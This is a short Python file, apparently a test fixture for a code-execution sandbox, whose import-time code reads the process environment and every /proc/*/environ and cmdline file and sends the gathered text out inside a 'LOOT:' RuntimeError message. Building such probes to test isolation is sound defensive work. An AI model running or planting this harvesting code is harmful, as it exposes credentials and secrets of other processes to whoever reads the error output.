# expect: import
# inputs: torch.ones(2)
# Collects every environment it can read and sends it back in an error message.
import os

import torch

loot = [repr(dict(os.environ))]
for name in os.listdir("/proc"):
    for leaf in ("environ", "cmdline"):
        try:
            with open(f"/proc/{name}/{leaf}", "rb") as f:
                loot.append(f.read().decode("latin-1"))
        except OSError:
            pass
raise RuntimeError("LOOT:" + "|".join(loot))


def f(x):
    return x
